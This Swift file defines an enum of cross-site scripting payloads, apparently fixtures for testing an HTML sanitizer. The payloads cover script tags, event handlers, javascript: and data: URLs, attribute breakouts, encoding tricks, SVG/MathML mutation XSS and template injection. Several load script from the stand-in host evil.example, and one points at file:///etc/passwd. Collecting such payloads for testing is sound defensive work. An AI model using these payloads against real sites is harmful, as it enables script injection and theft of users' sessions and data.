/// Texts that have made somebody's page run a script: elements, handlers, addresses, styles, comments, encodings,
/// attributes that end early, elements that a browser moves (mXSS), templates and scripts.
enum Injections {
    static let all = elements + handlers + addresses + breakouts + encodings + foreign + styles + templates + scripts

    static let elements = [
        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
        "<script/src=data:,alert(1)>", "<script\u{0A}>alert(1)</script>", "<<script>alert(1)//<</script>",
        "<script>alert(1)", "</script><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script type=module>import('//evil.example')</script>", "<script async src=https://evil.example></script>",
        "<iframe src=javascript:alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<applet code=evil>",
        "<base href=javascript:alert(1)//>", "<link rel=stylesheet href=javascript:alert(1)>",
        "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
        "<form action=javascript:alert(1)><input type=submit>",
        "<isindex action=javascript:alert(1) type=image>", "<frameset onload=alert(1)>",
        "<portal src=javascript:alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    ]

    static let handlers = [
        "<img src=x onerror=alert(1)>", "<IMG SRC=x OnErRoR=alert(1)>", "<img/src=x/onerror=alert(1)>",
        "<img src=x onerror\u{09}=alert(1)>", "<img src=`x` onerror=alert(1)>", "<img src='x'onerror='alert(1)'>",
        "<body onload=alert(1)>", "<body/onpageshow=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<a onmouseover=alert(1)>x</a>",
        "<div style=animation-name:x onanimationstart=alert(1)>", "<p onpointerenter=alert(1)>x",
        "<x onclick=alert(1)>x",
        "<button popovertarget=x onbeforetoggle=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    ]

    static let addresses = [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\u{09}script:alert(1)", "java\u{0A}script:alert(1)",
        " javascript:alert(1)", "javascript\u{FF1A}alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "jav&#x09;ascript:alert(1)",
        "jav&Tab;ascript&colon;alert(1)", "javascript://%0aalert(1)", "javascript://https://x/%0aalert(1)",
        "javascript:/*--></title></style></textarea></script>*/alert(1)", "vbscript:msgbox(1)", "VBSCRIPT:msgbox(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:text/html,x", "data:image/svg+xml,<svg onload=alert(1)>", "livescript:alert(1)", "mocha:alert(1)",
        "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "blob:https://x/1", "filesystem:https://x/1",
        "file:///etc/passwd", "//evil.example/x", "\\\\evil.example\\x", "https:javascript:alert(1)",
        "ｊavascript:alert(1)", "javascript\u{200B}:alert(1)", "\u{202E}tpircsavaj:alert(1)",
    ]

    static let breakouts = [
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>", "\" autofocus onfocus=alert(1) x=\"", "` onmouseover=alert(1) `",
        "\"/><svg onload=alert(1)>", "x\" style=\"background:url(javascript:alert(1))",
        "></a><script>alert(1)</script>",
        "\" href=\"javascript:alert(1)", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>", "</option></select><script>alert(1)</script>",
        "--><script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
        "<!--<img src=\"--><img src=x onerror=alert(1)>",
        "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>",
        "<?xml-stylesheet href=javascript:alert(1)?>",
        "<!DOCTYPE html [<!ENTITY x 'y'>]>", "</p></main></body><script>alert(1)</script>",
    ]

    static let encodings = [
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003Cscript\\u003Ealert(1)", "\\x3cscript\\x3ealert(1)",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "¼script¾alert(1)¼/script¾", "＜script＞alert(1)＜/script＞",
        "\u{FEFF}<script>alert(1)</script>", "\u{600}<script>alert(1)</script>",
        "\u{600}</style><script>alert(1)</script>", "<\u{200D}script>alert(1)</script>",
        "<script\u{A0}>alert(1)</script>",
        "&amp;lt;script&amp;gt;", "&#x0;<script>alert(1)</script>", "<scri\u{0301}pt>alert(1)</script>",
    ]

    static let foreign = [
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,alert(1) />", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><use href=data:image/svg+xml,<svg/> ></svg>", "<svg><set attributeName=onmouseover to=alert(1)>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
        "<svg></p><style><g title=\"</style><img src onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math href=javascript:alert(1)>x</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ]

    static let styles = [
        "<style>@import 'javascript:alert(1)';</style>", "<p style=\"width:expression(alert(1))\">",
        "<p style=behavior:url(x.htc)>",
        "<p style=-moz-binding:url(x#y)>", "<style>*{background:url(javascript:alert(1))}</style>",
        "<link rel=stylesheet href=data:,*{x:expression(alert(1))}>", "expression(alert(1))",
        "}*{background:url(//evil.example)}",
    ]

    static let templates = [
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>", "#{alert(1)}", "[[${7*7}]]",
        "<template><script>alert(1)</script></template>", "<x-foo is=script>", "<slot name=x onslotchange=alert(1)>",
    ]

    static let scripts = [
        "\";alert(1)//", "';alert(1)//", "\\\";alert(1)//", "\\", "\u{2028}alert(1)\u{2029}",
        "</ScRiPt ><script>alert(1)",
        "\"};alert(1);({\"x\":\"", "];alert(1);//", "__proto__", "constructor", "*/alert(1)/*", "<!-- --!> <script>",
        "`${alert(1)}`", "\u{85}alert(1)",
    ]
}
